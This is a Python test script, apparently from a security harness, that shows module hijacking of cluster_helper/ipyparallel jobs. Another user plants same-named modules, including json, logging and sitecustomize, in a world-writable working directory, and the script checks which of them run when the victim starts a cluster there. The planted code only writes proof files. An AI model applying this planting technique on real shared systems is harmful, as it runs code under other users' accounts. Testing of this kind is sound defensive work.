"""A script of the victim's, started in a directory that others write to, asks for a cluster.

There lies whatever Python would look for in the working directory: cluster_helper itself, modules
of the standard library, packages that it needs.
"""

from __future__ import annotations

from people import done, root
from report import Report

from attacks.scene import HIDEOUT, NODE, STRANGER, VICTIM, evidence, set_up

WORK = "/srv/hijack/work"
PYTHON = "~/anaconda/bin/python"
MODULES = (
    "cluster_helper", "enum", "json", "logging", "ipyparallel", "zmq", "psutil", "IPython",
    "tornado", "traitlets", "sitecustomize", "usercustomize", "ipyparallel_config",
    "ipcontroller_config", "ipengine_config", "ipcluster_config",
)  # fmt: skip
# What a notebook's cell holds, as a script that lies in the victim's home.
SCRIPT = """
from cluster_helper.cluster import cluster_view
with cluster_view(num_jobs=1, cores_per_job=1, extra_params={"run_local": True}) as view:
    assert view.map(abs, [-1, -2]) is not None
"""


HOW = {
    "script": f"{PYTHON} ~/cluster_script.py",
    "isolated script": f"{PYTHON} -I ~/cluster_script.py",
    "script behind a link": f"{PYTHON} mine.py",  # Python looks beside what the link leads to
}


def cluster_view(report: Report, *, short: bool = False) -> None:
    """A module of the stranger's for every name that is imported, with engines on this node."""
    done("setup")
    done("parallel")
    set_up()
    VICTIM.says("cat >~/cluster_script.py", SCRIPT)
    root(NODE, f"rm -rf {WORK}; install -d -m 1777 {WORK}")
    try:
        VICTIM.says(f"ln -s ~/cluster_script.py {WORK}/mine.py")
        _plant()
        _require_dangerous()
        for how in list(HOW)[:1] if short else HOW:
            _attacked(report, how)
    finally:
        root(NODE, f"rm -rf {WORK}")
        VICTIM.says("rm -f ~/cluster_script.py")


def _attacked(report: Report, how: str) -> None:
    ran = VICTIM.run(f"cd {WORK} && {HOW[how]}")
    found = evidence()
    for module in MODULES:
        report.note(
            f"{module} beside a {how}", *(line for line in found if line.endswith(f" {module}"))
        )
    failed = [(ran.stdout + ran.stderr).strip()[-300:]] if ran.returncode else []
    report.note(f"a cluster for a {how}", *failed)


def _plant() -> None:
    """As a package and as a module; each says that it ran and that is all."""
    for module in MODULES:
        proof = f"open('{HIDEOUT}/proofs/{module}', 'w').close()"
        STRANGER.says(
            f'cd {WORK} && mkdir {module} && echo "{proof}" | tee {module}.py >{module}/__init__.py'
        )


def _require_dangerous() -> None:
    """The working directory is the first that `python -m` and `python -c` look into."""
    for module in MODULES:
        VICTIM.run(f"cd {WORK} && {PYTHON} -S -c 'import {module}'")
    seen = evidence()
    missing = [module for module in MODULES if f"code ran: {module}" not in seen]
    assert missing == [], f"{missing}: {seen}"
